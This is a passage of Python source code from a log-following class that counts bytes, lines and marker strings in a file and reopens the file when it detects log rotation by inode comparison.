                self.bytes += len(whole) + 1
                self.lines += whole.count(b"\n") + 1
                for mark in self.marks:
                    self.marked[mark] += whole.count(mark.encode())
        if rest:
            self.handle.seek(-len(rest), os.SEEK_CUR)

    def _follow(self) -> None:
        while True:
            stopping = self.stop.wait(self.every)
            self._read()
            try:
                renamed = os.stat(self.path).st_ino != os.fstat(self.handle.fileno()).st_ino
            except OSError:
                renamed = False
            if renamed:  # rotated: the old file read to its end, the new one from its start
                self._read()
                self.handle.close()
                self.handle = open(self.path, "rb")  # noqa: SIM115
                continue
            if stopping:
                return
